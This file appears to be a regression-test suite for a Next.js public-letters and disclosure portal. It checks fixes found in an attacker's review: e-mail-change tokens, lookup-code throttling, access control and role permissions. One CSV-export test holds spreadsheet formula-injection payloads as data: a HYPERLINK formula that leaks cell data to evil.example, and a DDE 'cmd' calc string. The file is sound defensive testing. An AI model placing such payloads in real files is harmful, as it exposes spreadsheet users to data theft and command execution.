import { createHash } from "node:crypto";
import { NextRequest } from "next/server";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, useAsAppDatabase, type TestDatabase } from "../helpers/db";
import { demoActor } from "../helpers/demo";
import { demoPassword } from "@/prisma/seed/demo-accounts";
import type { TSessionUser } from "@/lib/auth/types";
import { changePassword } from "@/lib/auth/changePassword";
import { confirmEmailChange, emailChangeFor, requestEmailChange } from "@/lib/users/emailChange";
import { resetPassword } from "@/lib/users/resetPassword";
import { setPasswordWithLink } from "@/lib/users/passwordLinks";
import { submitLetter, ZLetter } from "@/lib/letters/submitLetter";
import { readLetter } from "@/lib/letters/queries";
import { applyLetterStep, rateLetter } from "@/lib/letters/applyLetterStep";
import { pageWait } from "@/lib/throttle/pageLimits";
import { servePageGate } from "@/lib/throttle/servePageGate";
import { clientAddressHeader } from "@/lib/http/clientAddressHeader";
import { letterCookieName } from "@/lib/http/letterCookie";
import { TooManyRequestsError } from "@/lib/throttle/throttle";
import {
  publishReport,
  publishedReport,
  reportForKeeper,
  saveReportFigures,
} from "@/lib/disclosure/annualReports";
import { publishedReportCsv } from "@/lib/disclosure/publishedReportCsv";
import { emptyFigures } from "@/lib/disclosure/reportFigures";
import { getT } from "@/lib/i18n/server";
import { saveDisclosureSettings } from "@/lib/settings/queries";
import { saveCalendarOverrides } from "@/lib/deadlines/saveCalendarOverrides";
import { NotFoundError } from "@/lib/shared/errors";

/**
 * What an attacker's pass over the newest routes found, each a regression test (tests that fail
 * on the main line before the fix say so), and the attempts that were refused as they should be.
 */

let database: TestDatabase;
let db: TestDatabase["prisma"];
const actors: Record<string, TSessionUser> = {};

beforeAll(async () => {
  database = await createTestDatabase({ seeded: true });
  useAsAppDatabase(database);
  db = database.prisma;
  for (const name of [
    "citizen",
    "citizen2",
    "org",
    "caseworker",
    "caseworker2",
    "officer",
    "editor",
    "supervisor",
    "letters",
    "admin",
  ])
    actors[name] = await demoActor(db, `${name}@example.cn`);
});
afterAll(() => database.close());

/** The token in the newest mail to `to` that carries a link. */
async function tokenMailedTo(to: string): Promise<string> {
  const mails = await db.outboxMail.findMany({ where: { to }, orderBy: { createdAt: "desc" } });
  for (const mail of mails) {
    const token = /[?&]token=([A-Za-z0-9_-]+)/.exec(mail.text)?.[1];
    if (token) return token;
  }
  throw new Error(`no link mailed to ${to}`);
}

describe("a pending change of e-mail address after the password changes", () => {
  // whoever knew the password asks to move the account to their address; the owner, warned,
  // changes the password: the link in the other person's mailbox must no longer take the account
  it("lapses when the person changes their password", async () => {
    await requestEmailChange({
      db,
      actor: actors.citizen2,
      newEmail: "taker1@example.net",
      password: demoPassword,
    });
    const token = await tokenMailedTo("taker1@example.net");
    expect(await emailChangeFor({ token, db })).toEqual({ newEmail: "taker1@example.net" });
    await changePassword({
      db,
      actor: actors.citizen2,
      currentPassword: demoPassword,
      newPassword: "A-new-passphrase-2026",
      currentSid: null,
    });
    expect(await emailChangeFor({ token, db })).toBeNull();
    expect(await confirmEmailChange({ token, db })).toBe(false);
    expect((await db.user.findUniqueOrThrow({ where: { id: actors.citizen2.id } })).email).toBe(
      "citizen2@example.cn",
    );
  });

  it("lapses when an administrator resets the password, and when a mailed link sets a new one", async () => {
    await requestEmailChange({
      db,
      actor: actors.org,
      newEmail: "taker2@example.net",
      password: demoPassword,
    });
    const first = await tokenMailedTo("taker2@example.net");
    await resetPassword({ db, actor: actors.admin, userId: actors.org.id });
    expect(await confirmEmailChange({ token: first, db })).toBe(false);

    const resetLink = await tokenMailedTo("org@example.cn");
    // a change asked for while the reset link waits (as with a password known before the reset)
    const second = "a".repeat(43);
    await db.emailChange.create({
      data: {
        userId: actors.org.id,
        newEmail: "taker3@example.net",
        tokenHash: createHash("sha256").update(second).digest("hex"),
        expiresAt: new Date(Date.now() + 3_600_000),
      },
    });
    expect(await setPasswordWithLink({ db, token: resetLink, password: "Another-passphrase-2026" })).toEqual({
      portal: "public",
    });
    expect(await confirmEmailChange({ token: second, db })).toBe(false);
    expect((await db.user.findUniqueOrThrow({ where: { id: actors.org.id } })).email).toBe("org@example.cn");
  });
});

describe("a letter's 查询码 guessed on its page", () => {
  it("answers 429 before the page renders once the number's guesses are used up", async () => {
    servePageGate();
    const { number } = await submitLetter({
      db,
      actor: actors.citizen,
      letter: ZLetter.parse({
        kind: "COMPLAINT",
        mailbox: "RSJ",
        subject: "查询码测试",
        content: "正文。",
        consentToPublish: "no",
      }),
    });
    // the page reads the 查询码 from the letter's cookie (set by the lookup form), never the URL
    const page = (code: string) =>
      new NextRequest(`http://portal.example/en/letters/${number}`, {
        headers: { [clientAddressHeader]: "198.51.100.7", cookie: `${letterCookieName(number)}=${code}` },
      });
    expect(await pageWait(page("AAAAAA"))).toBeNull();
    let refused = 0;
    for (let i = 0; i < 12; i++) {
      const guess = "CDEFGHJKMNPQ"[i].repeat(6);
      try {
        expect(await readLetter({ db, actor: null, number, code: guess })).toBeNull();
      } catch (error) {
        expect(error).toBeInstanceOf(TooManyRequestsError);
        refused++;
      }
    }
    expect(refused).toBeGreaterThan(0);
    const wait = await pageWait(page("BBBBBB"));
    expect(wait?.kind).toBe("attempts");
    expect(wait?.retryAfterSeconds).toBeGreaterThan(0);
    // a letter's page without a code, or with a malformed number, is no lookup
    expect(await pageWait(new NextRequest(`http://portal.example/en/letters/${number}`))).toBeNull();
    const cookie = { cookie: `${letterCookieName("XJ1")}=BBBBBB` };
    expect(
      await pageWait(new NextRequest("http://portal.example/en/letters/XJ1", { headers: cookie })),
    ).toBeNull();
    // `?code=` in the URL is no lookup any more: nothing reads it
    const inUrl = new NextRequest(`http://portal.example/en/letters/${number}?code=BBBBBB`, {
      headers: { [clientAddressHeader]: "198.51.100.7" },
    });
    expect(await pageWait(inUrl)).toBeNull();
    const refusals = await db.auditLog.count({
      where: { entityType: "Letter", entityId: number, outcome: "DENIED" },
    });
    expect(refusals).toBeGreaterThan(0);
  });
});

describe("another person's letter", () => {
  it("cannot be read, rated or handled: not found for another citizen and another mailbox's staff", async () => {
    const { number } = await submitLetter({
      db,
      actor: actors.citizen,
      letter: ZLetter.parse({
        kind: "COMPLAINT",
        mailbox: "RSJ",
        subject: "他人的信",
        content: "正文。",
        consentToPublish: "yes",
      }),
    });
    let version = 1;
    for (const [actor, step, extra] of [
      [actors.caseworker, "accept", {}],
      [actors.caseworker, "draft", { replyText: "已处理。" }],
      [actors.supervisor, "signOff", {}],
      [actors.caseworker, "send", {}],
    ] as const)
      version = (await applyLetterStep({ db, actor, number, step, expectedVersion: version, ...extra }))
        .version;
    expect(await readLetter({ db, actor: actors.citizen2, number })).toBeNull();
    await expect(
      rateLetter({ db, actor: actors.citizen2, number, expectedVersion: version, rating: "UNSATISFIED" }),
    ).rejects.toBeInstanceOf(NotFoundError);
    await expect(
      applyLetterStep({ db, actor: actors.caseworker2, number, step: "publish", expectedVersion: version }),
    ).rejects.toBeInstanceOf(NotFoundError);
    // a replay of a step already taken, with the version it was taken at, changes nothing
    await expect(
      applyLetterStep({ db, actor: actors.caseworker, number, step: "send", expectedVersion: version - 1 }),
    ).rejects.toBeTruthy();
    expect((await db.letter.findUniqueOrThrow({ where: { number } })).rating).toBeNull();
  });
});

describe("letters without an account", () => {
  it("are limited per client address; a signed-in writer is not held by that limit", async () => {
    const suggestion = ZLetter.parse({
      kind: "SUGGESTION",
      mailbox: "RSJ",
      subject: "建议",
      content: "建议增加夜间窗口。",
      consentToPublish: "no",
    });
    const before = await db.letter.count();
    let written = 0;
    let refused: unknown = null;
    for (let i = 0; i < 15 && !refused; i++) {
      try {
        await submitLetter({ db, actor: null, letter: suggestion });
        written++;
      } catch (error) {
        refused = error;
      }
    }
    expect(written).toBe(10);
    expect(refused).toBeInstanceOf(TooManyRequestsError);
    expect(await db.letter.count()).toBe(before + 10);
    await expect(submitLetter({ db, actor: actors.citizen, letter: suggestion })).resolves.toMatchObject({
      status: "SUBMITTED",
    });
  });
});

describe("the staff pages for annual reports and disclosure settings", () => {
  // refused before anything is read
  const figures = {};

  it("let each role do only its part: officers save, supervisors publish their department's, administrators the city's", async () => {
    const year = 2031;
    const can = async (run: Promise<unknown>) =>
      run.then(
        () => "yes",
        (error: unknown) => (error instanceof NotFoundError ? "refused" : `other: ${String(error)}`),
      );
    const readRsj: Record<string, string> = {};
    const readCity: Record<string, string> = {};
    for (const [name, actor] of Object.entries(actors)) {
      readRsj[name] = await can(reportForKeeper({ db, actor, year, scope: "RSJ" }));
      readCity[name] = await can(reportForKeeper({ db, actor, year, scope: "CITY" }));
    }
    expect(readRsj).toEqual({
      citizen: "refused",
      citizen2: "refused",
      org: "refused",
      caseworker: "refused",
      caseworker2: "refused",
      officer: "yes",
      editor: "refused",
      supervisor: "yes",
      letters: "refused",
      admin: "yes",
    });
    expect(Object.entries(readCity).filter(([, v]) => v === "yes")).toEqual([["admin", "yes"]]);
    // the officer reads and saves but does not publish; the supervisor of another department nothing
    expect(await can(publishReport({ db, actor: actors.officer, year, scope: "RSJ" }))).toBe("refused");
    expect(await can(publishReport({ db, actor: actors.supervisor, year, scope: "CITY" }))).toBe("refused");
    expect(await can(saveReportFigures({ db, actor: actors.supervisor, year, scope: "MZJ", figures }))).toBe(
      "refused",
    );
    const denied = await db.auditLog.count({ where: { entityType: "AnnualReport", outcome: "DENIED" } });
    expect(denied).toBeGreaterThanOrEqual(17);
  });

  it("export a published report's text as cells no spreadsheet reads as a formula", async () => {
    const hostile = {
      ...emptyFigures,
      problems: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
      other: "-2+3;=cmd|' /C calc'!A0",
    };
    await saveReportFigures({ db, actor: actors.officer, year: 2032, scope: "RSJ", figures: hostile });
    await publishReport({ db, actor: actors.supervisor, year: 2032, scope: "RSJ" });
    const report = await publishedReport({ db, year: 2032, scope: "RSJ" });
    const csv = publishedReportCsv(report!, await getT("zh-Hans", ["disclosure"]));
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""详情"")"`);
    expect(csv).toContain(`"'-2+3;=cmd|' /C calc'!A0"`);
    for (const line of csv.split("\r\n")) expect(line, line).not.toMatch(/^[=+\-@]|,[=+\-@]/);
  });

  it("refuse every role but the administrator's the disclosure settings and the calendar (audited, not found)", async () => {
    for (const [name, actor] of Object.entries(actors)) {
      if (name === "admin") continue;
      await expect(
        saveDisclosureSettings({ db, actor, settings: { correctionPeriodWorkingDays: 5 } }),
        name,
      ).rejects.toBeInstanceOf(NotFoundError);
      await expect(
        saveCalendarOverrides({
          db,
          actor,
          calendar: { holidays: ["2031-01-02"], workdays: [], years: [2031] },
        }),
        name,
      ).rejects.toBeInstanceOf(NotFoundError);
    }
    expect(await db.siteSetting.findUnique({ where: { key: "calendar" } })).toBeNull();
    expect(
      await db.auditLog.count({
        where: { action: { in: ["settings.disclosure", "settings.calendar"] }, outcome: "DENIED" },
      }),
    ).toBe(2 * (Object.keys(actors).length - 1));
  });
});
